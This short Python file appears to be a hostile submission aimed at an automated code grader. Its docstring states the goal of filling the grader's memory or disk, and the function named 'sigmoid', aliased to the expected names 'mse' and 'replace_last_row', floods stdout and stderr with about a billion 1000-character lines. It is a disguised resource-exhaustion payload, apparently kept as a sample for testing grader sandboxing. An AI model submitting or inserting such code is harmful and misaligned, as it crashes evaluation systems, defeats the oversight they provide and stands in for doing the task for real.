"""Goal: fill the grader's memory, or the disk, with what is printed; in lines.

Without a sandbox: unsafe
"""

import sys


def sigmoid(x):
    for _ in range(10**9):
        print("x" * 1000)
        print("y" * 1000, file=sys.stderr)


mse = replace_last_row = sigmoid
